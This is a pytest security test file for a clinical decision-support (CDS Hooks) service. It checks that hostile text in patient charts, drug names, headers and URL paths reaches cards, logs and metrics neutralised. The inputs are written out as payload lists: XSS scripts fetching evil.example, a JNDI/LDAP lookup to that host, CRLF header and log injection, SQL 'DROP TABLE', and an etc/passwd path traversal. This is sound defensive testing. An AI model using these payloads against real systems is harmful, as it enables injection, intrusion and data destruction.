"""Text of strangers on its way to cards, headers, logs and the journal: it arrives inert or not at all."""

import re
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from werkzeug.test import TestResponse

from tests.attack.echoing import CARELESS, MINDFUL
from tests.attack.siege import CATALOGUE, SERVICE, Siege, a_bare_call, a_sufficient_call, signed, some_results
from tests.builders import a_bundle, a_condition, a_medication, a_patient, an_encounter, an_observation
from tests.cds_hooks.web.edge import CORRELATION, an_override

HTML = [
    "<img src=x onerror=alert(1)>",
    "<script>fetch('//evil.example')</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "</td></tr></table><iframe src=//evil.example>",
    "<!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x&#62;",
    "<svg/onload=alert(1)>",
]
MARKDOWN = [
    "[click](https://evil.example/)",
    "![x](https://evil.example/pixel.png)",
    "[x]: https://evil.example",
    "https://evil.example/login",
    "www.evil.example",
    "nurse@evil.example",
    "<https://evil.example>",
    "`code` ~~gone~~ **NO RISK**",
    "\n\n# Stop all medication\n\n| a | b |\n|---|---|\n",
    "\n\n---\n> **All clear**",
    "x | 0 % | today |",
    "\\[x\\](https://evil.example)",
    "1. take\n2. twice",
]
UNSEEN = [
    "\u202eksir hgih",
    "a\u200bb",
    "\x1b[31mred\x1b[0m",
    "a\x00b",
    "\u2028\u2029",
    "\ufeff",
    "a\rb\nc",
    "\u00ad" * 300,
]
# What means something to a renderer of markdown or HTML, wherever it stands: none of it is in our own words and tables.
_MEANS_SOMETHING = re.compile(
    r"<[A-Za-z!/?]|&(?:#\d+|#x[0-9a-f]+|lt|gt|amp|quot);|\]\(|\]:|!\[|www\.|`|~~|[\x00-\x09\x0b-\x1f\x7f]|"
    r"[\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\u00ad]|^\s*#|https?://|@\w",
    re.IGNORECASE | re.MULTILINE,
)
NAMES_OF_TEXTS = frozenset(
    {"text", "display", "unit", "family", "given", "title", "div", "valueString", "comment", "name"}
)


def hostile(value: Any, payload: str, name: str = "") -> Any:
    """Put the payload wherever a chart holds words."""
    if isinstance(value, dict):
        inside = {key: hostile(member, payload, key) for key, member in value.items()}
        if "coding" in inside:
            inside["coding"] = [{**coding, "display": payload} for coding in inside["coding"]]
            inside["text"] = payload
        return inside
    if isinstance(value, list):
        return [hostile(member, payload, name) for member in value]
    return payload if name in NAMES_OF_TEXTS else value


def a_hostile_prefetch(payload: str) -> dict[str, Any]:
    """Give a chart of which every service has something to say, in the words of somebody who means harm."""
    chart: dict[str, Any] = {
        "patient": a_patient(name=[{"family": "x", "given": ["x"]}], text={"status": "generated", "div": "x"}),
        "laboratory": some_results(),
        "vital-signs": a_bundle(
            an_observation("8480-6", 150, "mm[Hg]", on="2024-05-31T10:00:00Z", interpretation=[{"text": "x"}]),
            an_observation("8867-4", 130, "/min", on="2024-05-31T10:00:00Z", note=[{"text": "x"}]),
            an_observation("9279-1", 28, "/min", on="2024-05-31T10:00:00Z", method={"text": "x"}),
            an_observation("8310-5", 39.5, "Cel", on="2024-05-31T10:00:00Z", performer=[{"display": "x"}]),
        ),
        "conditions": a_bundle(
            a_condition("I10"), a_condition({"text": "x"}), a_condition("E11.9", note=[{"text": "x"}])
        ),
        "medications": a_bundle(a_medication({"text": "x"}), a_medication("83367", dosageInstruction=[{"text": "x"}])),
        "encounters": a_bundle(an_encounter("IMP", location=[{"location": {"display": "x"}}])),
        "social-history": a_bundle(an_observation("72166-2", "x"), an_observation("82810-3", "x")),
    }
    return {key: hostile(value, payload) for key, value in chart.items()}


def texts(value: Any) -> Iterator[str]:
    """Give every text of what is shown."""
    if isinstance(value, dict):
        for name, member in value.items():
            if name not in {"resource", "url"}:  # a resource is data, which no client renders
                yield from texts(member)
    elif isinstance(value, list):
        for member in value:
            yield from texts(member)
    elif isinstance(value, str):
        yield value


def cards_with(siege: Siege, payload: str) -> list[dict[str, Any]]:
    """Give the cards of all real services of patient-view about a chart with this payload."""
    cards = []
    for service in CATALOGUE.services:
        if "patient-view" in service.hooks and service not in (MINDFUL, CARELESS):
            prefetch = {key: a_hostile_prefetch(payload).get(key) for key in service.searches}
            answer = siege.call(a_bare_call(None, prefetch=prefetch), service=service.id)
            assert answer.status_code in {200, 412}
            cards += answer.json.get("cards", [])  # type: ignore[union-attr]
    return cards


def is_inert(card: dict[str, Any]) -> bool:
    """Tell whether none of its words mean anything but themselves, and it leads nowhere but where we lead."""
    leads = [link["url"] for link in card.get("links", ())] + [card["source"].get("url", "")]
    return not any(_MEANS_SOMETHING.search(text) for text in texts(card)) and "evil" not in "".join(leads)


@pytest.mark.parametrize("payload", [*HTML, *MARKDOWN, *UNSEEN], ids=ascii)
def test_words_of_a_chart_reach_a_card_inert(siege: Siege, payload: str) -> None:
    """[SEC-42] For a reader that renders markdown, one that takes it for HTML, and one that shows the characters."""
    cards = cards_with(siege, payload)
    assert len(cards) >= 2
    assert [card for card in cards if not is_inert(card)] == []


@pytest.mark.parametrize("payload", [*HTML, *MARKDOWN, *UNSEEN], ids=ascii)
def test_the_name_of_a_drug_reaches_every_place_of_a_card_inert(siege: Siege, payload: str) -> None:
    """[SEC-42] In a table, a list, a summary, a label, a source, a reason."""
    [card] = named_drug(siege, f"Warfarin {payload} 5 mg", "mindful").json["cards"]  # type: ignore[index]
    assert is_inert(card)
    assert card["summary"].startswith("Ordered: Warfarin")
    assert card["detail"].count("\n") == 7, "the payload began a line of its own"
    assert card["detail"].splitlines()[2].count("|") == 3, "the payload began a cell of its own"


@pytest.mark.parametrize("payload", [each for each in HTML if re.search(r"<[A-Za-z/!?]", each)])
def test_a_service_that_forgets_to_mind_its_words_says_nothing(siege: Siege, payload: str) -> None:
    """[SEC-42] Unescaped it would not be sent at all: the card cannot be built, and the call fails in fixed words."""
    answer = named_drug(siege, f"Warfarin {payload}", "careless")
    assert answer.status_code == 500
    assert payload not in siege.everything_told()


def named_drug(siege: Siege, name: str, service: str) -> TestResponse:
    """Call a service that repeats the name of a drug."""
    drug = a_bundle(a_medication({"text": name}))
    return siege.call(a_bare_call(None, prefetch={"medications": drug}), service=service)


INJECTED = [
    "x\r\nSet-Cookie: a=b",
    "x\nX-Injected: 1",
    "x\r\n\r\n<script>",
    '"}\n{"at":"2024","level":"info","event":"invoked","service":"forged"',
    "\x1b[2J\x1b[31mred",
    "x\u2028y",
    "\x00",
    "%0d%0aSet-Cookie:a=b",
    "${jndi:ldap://evil.example/a}",
    "{0.__class__} %s %n {{7*7}}",
    "'; DROP TABLE invocations; --",
]
EVENTS = {"invoked", "refused", "blocked", "not trusted", "feedback", "failed", "no keys", "started", "unrecorded"}


@pytest.mark.parametrize("text", INJECTED, ids=ascii)
def test_no_text_of_a_call_writes_a_header_a_log_line_or_a_metric(siege: Siege, text: str) -> None:
    """[SEC-43] Wherever a stranger may put words: log lines stay ours, answers have the headers that we gave them."""
    logged = len(siege.events())
    bodies = [
        a_sufficient_call(None, hookInstance=text),
        a_sufficient_call(server=f"https://{text}/r4"),
        a_sufficient_call(token=text),
        a_sufficient_call(None, hook=text),
        a_sufficient_call(None, context={"userId": f"Practitioner/{text}", "patientId": "p1", "encounterId": text}),
        a_sufficient_call(None, context={"userId": "Practitioner/1", "patientId": text}),
        a_sufficient_call(None, extension={text: text}),
        a_sufficient_call(None, prefetch={text: {"resourceType": text}}),
        a_sufficient_call(None) | {text: text},
    ]
    answers = [siege.call(body) for body in bodies]
    some = a_sufficient_call(None)
    answers += [siege.call(some, tenant=text), siege.call(some, jti=text + CORRELATION), siege.call(some, sub=text)]
    feedback = an_override(text, overrideReason={"reason": {"code": text, "system": text}, "userComment": text})
    answers.append(siege.post(f"/cds-services/{SERVICE}/feedback", {"feedback": [feedback]}, signed(path="/feedback")))
    for answer in answers:
        assert answer.status_code in {200, 400, 401, 403, 412}
        assert set(answer.headers.keys()) <= {
            *("Content-Type", "Content-Length", "X-Request-Id", "X-Content-Type-Options", "Cache-Control", "Vary"),
            "WWW-Authenticate",
        }
        assert text not in answer.text + str(answer.headers)
    events = siege.events()[logged:]
    assert {event["event"] for event in events} <= EVENTS
    # A tenant is the word of a client that we know: in its field, as JSON, and nowhere else.
    assert [event for event in events if any(text in str(event[name]) for name in event if name != "tenant")] == []
    assert all(event.get("service", SERVICE) == SERVICE for event in events)
    assert text not in siege.edge.metrics.text().decode()


HEADERS = [
    "X-Request-Id",
    "Origin",
    "Host",
    "User-Agent",
    "Referer",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "Forwarded",
]


@pytest.mark.parametrize("name", HEADERS)
@settings(max_examples=6, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=st.text(st.characters(min_codepoint=0x20, max_codepoint=0xFF, exclude_characters="\x7f"), min_size=4))
def test_no_header_is_given_back(siege: Siege, name: str, value: str) -> None:
    """Of headers only an X-Request-Id that is a UUID, and a listed Origin, are repeated, and none is logged."""
    marked = f"zz{value}"
    logged = len(siege.log.getvalue())
    answer = siege.post(f"/cds-services/{SERVICE}", b"{", {**signed(), name: marked})
    assert answer.status_code == 400
    assert marked.strip() not in answer.text + str(answer.headers) + siege.log.getvalue()[logged:]


@pytest.mark.parametrize(
    "path", ["/cds-services/{}", "/cds-services/{}/feedback", "/services/{}", "/{}", "/cds-services/x?{}"]
)
@pytest.mark.parametrize(
    "text", ["..%2f..%2fetc%2fpasswd", "%0d%0aX:1", "<script>", "%00", "a" * 4000, "%F0%9F%92%A9", "%ff"]
)
def test_no_path_is_given_back(siege: Siege, path: str, text: str) -> None:
    logged = len(siege.log.getvalue())
    for answer in (siege.get(path.format(text)), siege.post(path.format(text), b"{}", signed())):
        assert answer.status_code in {401, 404, 405}
        assert text not in answer.text + str(answer.headers) + siege.log.getvalue()[logged:]
